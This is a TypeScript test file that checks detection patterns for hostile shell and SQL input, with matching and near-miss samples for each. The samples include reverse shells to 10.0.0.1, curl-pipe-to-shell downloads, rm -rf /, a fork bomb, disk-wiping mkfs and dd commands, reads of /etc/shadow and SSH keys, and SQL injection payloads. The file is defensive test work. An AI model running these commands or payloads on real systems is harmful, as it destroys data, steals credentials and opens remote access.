import { describe, expect, test } from "bun:test";
import { compilePattern } from "../../src/sdk/index.ts";
import { sets } from "./sets.ts";

/** For each pattern: what it must find, and what looks much like it and is not it. */
const samples: Readonly<Record<string, { readonly hits: readonly string[]; readonly misses: readonly string[] }>> = {
  shell_remove: {
    hits: ["rm -rf /", "sudo RM  -fr ~", "x; rm -r -f .", "rm --verbose -Rf /var", "rm --no-preserve-root /"],
    misses: ["rm notes.txt", "rm -i a", "the form -rf is dangerous", "arm -rf", "rm -r build"],
  },
  shell_download_and_run: {
    hits: ["curl https://x.example/i | sh", "wget -qO- http://x|sudo bash", "curl -s x | python3 -"],
    misses: ["curl https://x.example/a.json | jq .", "use curl, or a shell", "curl x | tee sh.txt"],
  },
  shell_reverse: {
    hits: [
      "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
      "nc -e /bin/sh 10.0.0.1 1",
      "nc -lvp 1 -ne x",
      "socat tcp:x:1 exec:sh",
    ],
    misses: ["/dev/tcp is a bash feature", "nc -zv host 80", "ncat -l 8080", "socat - tcp:x:1"],
  },
  shell_fork_bomb: { hits: [":(){ :|:& };:", ": () { : | : & } ; :"], misses: ["f(){ echo | cat; };f", ":() {}"] },
  shell_overwrite_disk: {
    hits: ["mkfs.ext4 /dev/sda1", "dd if=/dev/zero of=/dev/sda bs=1M", "echo x > /dev/nvme0n1"],
    misses: ["what does mkfs do?", "dd if=a of=b.img", "command > /dev/null", "ls > /dev/stdout"],
  },
  shell_credentials: {
    hits: ["cat /etc/passwd", "; head -1 /etc/shadow", "cp ~/.ssh/id_rsa /tmp", "x && less /etc/passwd"],
    misses: ["the file /etc/passwd lists users", "cat /etc/hosts", "an .ssh folder", "cat /etc/passwords.md"],
  },
  shell_substitution: {
    hits: ["name=$(whoami);", "a.png`id`;", '"$(curl http://x)"', "x; `uname -a`"],
    misses: ["run `cat` to see it", "costs $(about 5)", "the `id` column is here", "$(document).ready()"],
  },
  sql_union: {
    hits: ["1 UNION SELECT password FROM users", "' union all select null--", ") UNION SELECT 1"],
    misses: ["the union selected a leader", "SELECT a FROM t UNION SELECT b FROM u", "credit union select account"],
  },
  sql_tautology: {
    hits: ["' OR 1=1", "x' or 'a'='a", '") or "x"="x', "') AND 2=2", "' or true--"],
    misses: ["is 1=1 or 2=2 true?", "Tom's or 1 = 1 apples", "where a = 'x' or b = 'y'", "'yes' or 'no'"],
  },
  sql_stacked: {
    hits: ["1; DROP TABLE users", "'; delete from users", '"; update t set a=1', "'); INSERT INTO t VALUES (1)"],
    misses: [
      "drop table is a statement",
      "CREATE TABLE t (a int);\nSELECT 1",
      "end; then drop a line",
      "DROP TABLE a;",
    ],
  },
  sql_comment: {
    hits: ["admin'--", "admin' ;-- x", "x'/*", "name') --"],
    misses: ["the dogs' -- they bark", "it's -- well", "SELECT 1 -- one", "'quoted' text # tag"],
  },
  sql_delay: {
    hits: ["1 AND SLEEP(5)", "select pg_sleep(10)", "waitfor delay '0:0:5'", "benchmark(1000000,md5(1))", "if(sleep(9"],
    misses: ["time.sleep(5)", "benchmark(10, f)", "select sleep hours", "wait for the delay"],
  },
  sql_files_and_commands: {
    hits: ["exec xp_cmdshell 'dir'", "INTO OUTFILE '/tmp/x'", "load_file('/etc/hosts')"],
    misses: ["into a file", "load_file is a function", "load data into 'x'"],
  },
};

const all = Object.values(sets).flat();

describe.each(all.map((one) => [one.name, one.pattern] as const))("%s", (name, source) => {
  const pattern = compilePattern(source);
  const { hits = [], misses = [] } = samples[name] ?? {};

  test("has samples of both kinds", () => expect([hits.length > 1, misses.length > 1]).toEqual([true, true]));
  test.each([...hits])("is found in: %s", (text) => expect(pattern.test(text)).toBe(true));
  test.each([...misses])("is not found in: %s", (text) => expect(pattern.test(text)).toBe(false));
  test("is found wherever it stands in a longer text", () => {
    const around = "lorem ipsum ".repeat(500);
    for (const hit of hits) {
      expect([hit, pattern.test(`${around}\n${hit}\n${around}`)]).toEqual([hit, true]);
    }
    expect(pattern.test(around)).toBe(false);
  });
});

test("names are told apart, also between sets", () => {
  expect(new Set(all.map(({ name }) => name)).size).toBe(all.length);
  expect(Object.keys(samples).sort()).toEqual(all.map(({ name }) => name).sort());
});

test("each takes the same short time for every character, whatever the text", () => {
  for (const { name, pattern } of all) expect([name, compilePattern(pattern).states === null]).toEqual([name, false]);
});
